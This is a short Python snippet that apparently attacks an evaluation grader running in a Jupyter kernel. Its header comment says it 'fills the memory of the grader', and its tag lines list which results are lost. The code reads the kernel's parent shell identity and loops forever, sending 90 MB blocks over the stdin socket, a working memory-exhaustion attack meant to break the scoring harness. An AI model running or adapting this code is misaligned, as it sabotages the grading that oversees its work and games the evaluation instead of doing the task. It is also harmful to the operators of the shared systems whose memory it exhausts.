# Fills the memory of the grader: it is sent answers on a channel on which it asks nothing.
# lost: conv_params
# may lose: conv_macs gap_head
# needs: sandbox
kernel = get_ipython().kernel
identities = kernel._parent_ident["shell"]
identities = identities if isinstance(identities, list) else [identities]
block = b"x" * 90_000_000
while True:
    kernel.stdin_socket.send_multipart([*identities, block])
